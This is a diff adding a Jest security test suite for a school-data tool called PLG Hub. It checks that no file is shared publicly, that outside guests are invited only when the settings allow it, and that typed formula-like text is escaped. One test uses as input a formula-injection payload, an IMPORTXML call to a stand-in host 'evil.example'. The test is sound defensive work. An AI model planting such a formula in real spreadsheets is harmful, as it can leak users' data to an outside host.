@@ -1,0 +1,116 @@
+// What PLG Hub must never do with a school's data: share a file with anyone on the internet, invite someone
+// outside the school unless the school said so, or turn text a person typed into a live formula.
+import { mkdtempSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { applyUntilDone, setUpAndFill } from '../../src/emulator/bench/admin-sync';
+import { allEvents } from '../../src/emulator/calendar';
+import { cardText } from '../../src/emulator/cards/interact';
+import { runDemoFlow } from '../../src/emulator/demo-flow';
+import { filePermissions } from '../../src/emulator/drive';
+import { startSchool, type EmulatedSchool } from '../../src/emulator/harness';
+import { readSheetValues } from '../../src/emulator/spreadsheet';
+import { sheetByName, spreadsheetData } from '../../src/emulator/spreadsheet/model';
+
+jest.setTimeout(60_000);
+
+const guest = 'pat.visitor@gmail.com';
+const guestGroup = 'MATH-1';
+
+function setSetting(s: EmulatedSchool, label: string, value: string): void {
+  const sheets = s.globals.SpreadsheetApp as GoogleAppsScript.Spreadsheet.SpreadsheetApp;
+  const settings = sheets.openById(s.spreadsheetId).getSheetByName('Settings')!;
+  const row = settings.getDataRange().getValues().findIndex((r) => r[0] === label);
+  if (row < 0) throw new Error(`Settings has no row "${label}"`);
+  settings.getRange(row + 1, 2).setValue(value);
+}
+
+/** A small school with one outside address on the Staff tab and in a group. */
+function schoolWithGuest(): EmulatedSchool {
+  const s = startSchool({ seed: 4, staff: 30, withFindings: false });
+  s.school.settings['School year end'] = '2026-10-30';
+  s.school.tabs.Staff!.push({ Email: guest, Name: 'Pat Visitor', Role: 'coach', Department: 'Instruction', 'Grade levels': '', Active: 'Yes' });
+  s.school.tabs.Members!.push({ 'Group id': guestGroup, 'Staff email': guest, 'Role in group': 'member', From: '', Until: '' });
+  setUpAndFill(s);
+  return s;
+}
+
+function invitedToGroup(s: EmulatedSchool): boolean[] {
+  return allEvents(s.ws)
+    .filter((e) => e.extendedProperties?.private?.meetingKey?.startsWith(guestGroup) && e.status !== 'cancelled')
+    .map((e) => (e.attendees ?? []).some((a) => a.email === guest));
+}
+
+describe('sharing', () => {
+  it('no file made by the whole demo flow is shared with anyone on the internet', async () => {
+    const out = mkdtempSync(join(tmpdir(), 'plg-security-'));
+    const { school } = await runDemoFlow({ out, seed: 3, write: () => undefined });
+    const files = Object.values(school.ws.files).filter((f) => !f.trashed);
+    expect(files.length).toBeGreaterThan(5);
+    const open = files
+      .map((f) => ({ name: f.name, access: filePermissions(school.ws, f.id).access }))
+      .filter((f) => f.access === 'ANYONE' || f.access === 'ANYONE_WITH_LINK');
+    expect(open).toEqual([]);
+    const outsiders = files.flatMap((f) => {
+      const p = filePermissions(school.ws, f.id);
+      return [...p.editors, ...p.commenters, ...p.viewers].filter((e) => !e.endsWith('@school.example')).map((e) => `${f.name}: ${e}`);
+    });
+    expect(outsiders).toEqual([]);
+  });
+});
+
+describe('a guest outside the school domain in a group', () => {
+  it('is not invited, and Preview warns about them, while Settings says No', () => {
+    const s = schoolWithGuest();
+    const preview = s.press(s.open('onSheetsHomepage'), 'Preview changes');
+    expect(cardText(preview)).toMatch(/Warnings/);
+    const warnings = readSheetValues(s.ws, s.spreadsheetId, 'Preview').flat().map(String);
+    expect(warnings.some((w) => w.includes(guest) && /outside the school's domain/.test(w))).toBe(true);
+    applyUntilDone(s, preview);
+    const invited = invitedToGroup(s);
+    expect(invited.length).toBeGreaterThan(2);
+    expect(invited.every((i) => !i)).toBe(true);
+  });
+
+  it('is invited once Settings says "Allow guests outside the domain: Yes"', () => {
+    const s = schoolWithGuest();
+    setSetting(s, 'Allow guests outside the domain', 'Yes');
+    applyUntilDone(s, s.press(s.open('onSheetsHomepage'), 'Preview changes'));
+    const invited = invitedToGroup(s);
+    expect(invited.length).toBeGreaterThan(2);
+    expect(invited.every((i) => i)).toBe(true);
+  });
+});
+
+describe('text typed into the registry that looks like a formula', () => {
+  const typed = ['=IMPORTXML("https://evil.example/x","//a")', '+SUM(1,2)', '-2+3', '@evil'];
+
+  it('never comes back as a formula, or unescaped, on the tabs PLG Hub writes', () => {
+    const s = startSchool({ seed: 6, staff: 30, withFindings: false });
+    s.school.settings['School year end'] = '2026-10-30';
+    const groups = s.school.tabs.Groups!;
+    groups[0]!.Name = typed[0];
+    groups[1]!.Location = typed[1];
+    groups[2]!['Weekday'] = typed[2];
+    s.school.tabs.Members!.push({ 'Group id': groups[0]!['Group id'], 'Staff email': typed[3], 'Role in group': 'member', From: '', Until: '' });
+    s.school.tabs.Goals!.push({ 'Goal id': typed[1], Goal: typed[0] });
+    setUpAndFill(s);
+    s.press(s.open('onSheetsHomepage'), 'Validate');
+    s.press(s.open('onSheetsHomepage'), 'Preview changes');
+
+    const written = ['Problems', 'Preview'];
+    const book = spreadsheetData(s.ws, s.spreadsheetId);
+    for (const tab of written) {
+      const sheet = sheetByName(book, tab)!;
+      const formulas = Object.values(sheet.rows).flatMap((row) => Object.values(row)).filter((c) => c.formula !== undefined);
+      expect({ tab, formulas }).toEqual({ tab, formulas: [] });
+      const cells = readSheetValues(s.ws, s.spreadsheetId, tab).flat().map(String);
+      expect({ tab, unescaped: cells.filter((c) => /^[=+\-@]/.test(c)) }).toEqual({ tab, unescaped: [] });
+    }
+    // The person's words are still there to read, not dropped.
+    const problems = readSheetValues(s.ws, s.spreadsheetId, 'Problems').flat().map(String).join('\n');
+    expect(problems).toContain('@evil');
+    const preview = readSheetValues(s.ws, s.spreadsheetId, 'Preview').flat().map(String).join('\n');
+    console.log(preview.slice(0, 1500));
+  });
+});
